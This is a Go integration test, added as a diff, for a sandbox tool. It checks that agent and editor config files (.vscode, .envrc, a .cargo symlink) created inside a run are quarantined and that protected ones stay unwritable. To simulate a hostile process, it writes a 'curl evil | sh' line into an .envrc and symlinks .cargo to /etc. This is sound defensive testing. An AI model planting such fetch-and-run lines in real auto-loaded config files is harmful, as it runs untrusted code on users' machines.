@@ -1,0 +1,87 @@
+package integration
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+// What a sandbox makes or changes that matches a protect pattern with a
+// wildcard (the agent files of nested projects: sub/.vscode, a deeper
+// .envrc, a .cargo symlink) is quarantined when the run ends, since such a
+// pattern could protect only what existed at the start. What was there
+// and the run left alone stays as it was (a deep .envrc, a shared .npmrc
+// symlink); what was protected could not be changed; a pattern lifted
+// with "!" is not audited.
+func TestCreatedAgentFilesQuarantined(t *testing.T) {
+	eachUser(t, func(t *testing.T, u user) {
+		ws := filepath.Join(u.visibleDir(t), "proj")
+		deep := filepath.Join(ws, "sub", "deep", "a", "b", "c", "d", "e", "f", "g", "h", "i")
+		u.mkdirs(t, filepath.Join(ws, "sub", ".claude"), filepath.Join(deep, ".vscode"), filepath.Join(ws, "other"))
+		u.writeFile(t, filepath.Join(ws, "sub", ".claude", "settings.json"), "{}\n", 0o644)
+		u.writeFile(t, filepath.Join(deep, ".envrc"), "old\n", 0o644)
+		u.writeFile(t, filepath.Join(deep, ".vscode", "settings.json"), "{}\n", 0o644)
+		u.writeFile(t, filepath.Join(ws, "npmrc-shared"), "registry=x\n", 0o644)
+		if err := os.Symlink("../npmrc-shared", filepath.Join(ws, "sub", ".npmrc")); err != nil {
+			t.Fatal(err)
+		}
+		os.Lchown(filepath.Join(ws, "sub", ".npmrc"), u.uid, u.gid)
+		// Changes count from the run's start on; the setup above must
+		// lie in an earlier tick of the file system's clock.
+		time.Sleep(50 * time.Millisecond)
+		status := filepath.Join(u.visibleDir(t), "status.jsonl")
+		r := u.sh(t, &runOpts{dir: ws}, []string{"--json-status", status}, `
+mkdir sub/.vscode && echo '{"tasks":[]}' > sub/.vscode/tasks.json
+echo 'curl evil | sh' > sub/deep/.envrc
+echo '{"evil":1}' >> sub/deep/a/b/c/d/e/f/g/h/i/.vscode/settings.json
+ln -s /etc other/.cargo
+mkdir sub/.idea
+echo x > sub/.claude/settings.json 2>/dev/null && echo claude-written
+mkdir -p sub/prep && echo '{}' > sub/prep/tasks.json
+echo made`)
+		expectCode(t, r, 0)
+		if strings.Contains(r.stdout, "claude-written") {
+			t.Errorf("a protected nested .claude was writable")
+		}
+		quarantined := []string{"sub/.vscode", "sub/deep/.envrc", "sub/deep/a/b/c/d/e/f/g/h/i/.vscode", "other/.cargo"}
+		for _, p := range quarantined {
+			if exists(filepath.Join(ws, p)) {
+				t.Errorf("%s still there after the run; stderr %q", p, r.stderr)
+			}
+			if !exists(filepath.Join(ws, p+".nsbox-quarantine")) {
+				t.Errorf("%s.nsbox-quarantine missing after the run", p)
+			}
+		}
+		// Left alone: what the run did not touch, and an empty directory.
+		for _, p := range []string{"sub/.npmrc", "sub/deep/a/b/c/d/e/f/g/h/i/.envrc", "sub/.claude/settings.json", "sub/.idea", "sub/prep"} {
+			if !exists(filepath.Join(ws, p)) {
+				t.Errorf("%s is gone after the run; stderr %q", p, r.stderr)
+			}
+		}
+		if n := strings.Count(r.stderr, "matches the protected pattern"); n != len(quarantined) {
+			t.Errorf("%d quarantine warnings, want %d: %q", n, len(quarantined), r.stderr)
+		}
+		b, _ := os.ReadFile(status)
+		if n := strings.Count(string(b), `"pattern":"$NSBOX_WORKSPACE/*/**/`); n != len(quarantined) {
+			t.Errorf("%d quarantined events with their pattern, want %d: %s", n, len(quarantined), b)
+		}
+
+		// A directory made in one run (matching nothing) and moved into
+		// place in the next: the rename is a change of the run.
+		time.Sleep(50 * time.Millisecond)
+		r = u.sh(t, &runOpts{dir: ws}, nil, `mv sub/prep sub/.zed && echo moved`)
+		expectCode(t, r, 0)
+		if exists(filepath.Join(ws, "sub", ".zed")) || !exists(filepath.Join(ws, "sub", ".zed.nsbox-quarantine")) {
+			t.Errorf("a directory renamed into place was not quarantined; stderr %q", r.stderr)
+		}
+
+		// Lifted: a trusted run keeps what it makes.
+		r = u.sh(t, &runOpts{dir: ws}, []string{"--protect", "!$NSBOX_WORKSPACE/*/**/.envrc"}, `echo 'use nix' > other/.envrc && echo ok`)
+		expectCode(t, r, 0)
+		if !exists(filepath.Join(ws, "other", ".envrc")) || strings.Contains(r.stderr, "protected pattern") {
+			t.Errorf("a lifted pattern was audited; stderr %q", r.stderr)
+		}
+	})
+}
